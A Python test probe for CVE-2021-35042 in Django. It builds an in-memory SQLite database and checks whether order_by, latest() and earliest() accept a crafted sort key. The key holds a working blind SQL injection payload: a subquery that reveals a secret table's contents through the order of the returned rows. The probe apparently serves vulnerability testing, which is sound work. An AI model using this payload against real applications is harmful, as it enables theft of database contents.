# /// vertice-probe
# id = "PYSEC-2021-109"
# aliases = ["CVE-2021-35042", "GHSA-xpfp-f569-q3p2"]
# package = "django"
# summary = """\
#   order_by puts a text with a dot in it into the SQL unchecked, so a sort key from the request injects SQL."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-89"]
# kind = "sqli"
# symbols = [
#   "django.db.models.QuerySet.order_by",
#   "django.db.models.query.QuerySet.order_by",
#   "django.db.models.QuerySet.latest",
#   "django.db.models.QuerySet.earliest",
# ]
#
# [[affected]]
# package = "django"
# ranges = [{ type = "ECOSYSTEM", events = [
#   { introduced = "3.1" },
#   { fixed = "3.1.13" },
#   { introduced = "3.2" },
#   { fixed = "3.2.5" },
# ] }]
#
# [cases]
# attack = "a sort key with a subquery reorders the rows by a secret of another table"
# [cases.variants]
# latest = "the same through latest() and earliest()"
# [cases.controls]
# order = "ordinary sort keys work"
#
# [test]
# vulnerable = "3.2.4"
# fixed = "3.2.5"
# python = "<3.12"
# ///
"""CVE-2021-35042: SQL injection through order_by."""

import json
import sys


def prepare():
    """A model in a database in memory, and a table with a secret beside it."""
    import django
    from django.conf import settings

    settings.configure(
        DATABASES={"default": {"ENGINE": "django.db.backends.sqlite3", "NAME": ":memory:"}},
        DEFAULT_AUTO_FIELD="django.db.models.AutoField",
        USE_TZ=False,
    )
    django.setup()
    from django.db import connection, models

    class Item(models.Model):
        name = models.CharField(max_length=9)

        class Meta:
            app_label = "probe"
            db_table = "probe_item"

    with connection.schema_editor() as editor:
        editor.create_model(Item)
    with connection.cursor() as cursor:
        cursor.execute("create table probe_secret (code text)")
        cursor.execute("insert into probe_secret values ('sesame')")
    for name in "abc":
        Item.objects.create(name=name)
    return Item


def judge(names):
    """`names` gives the items' names ordered by the text, in a way that tells the order."""
    from django.core.exceptions import FieldError

    text = "probe_item.id * (case when (select substr(code, 1, 1) from probe_secret) = '%s' then -1 else 1 end)"
    try:
        right, wrong = names(text % "s"), names(text % "t")
    except FieldError as error:
        return "blocked", "FieldError: %s" % str(error).split(" into")[0][:60]
    if right == wrong[::-1] and right != wrong:
        return "exploited", "the order tells whether a guess at the secret is right: %s or %s" % (right, wrong)
    raise RuntimeError("neither injected nor refused: %r %r" % (right, wrong))


def attack():
    item = prepare()
    return judge(lambda text: "".join(item.objects.order_by(text).values_list("name", flat=True)))


def latest():
    item = prepare()
    return judge(lambda text: item.objects.earliest(text).name + item.objects.latest(text).name)


def order():
    item = prepare()
    got = ["".join(item.objects.order_by(key).values_list("name", flat=True)) for key in ("name", "-name", "-id")]
    got.append(item.objects.latest("id").name)
    return ("works" if got == ["abc", "cba", "cba", "c"] else "broken"), repr(got)


CASES = {"attack": attack, "latest": latest, "order": order}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
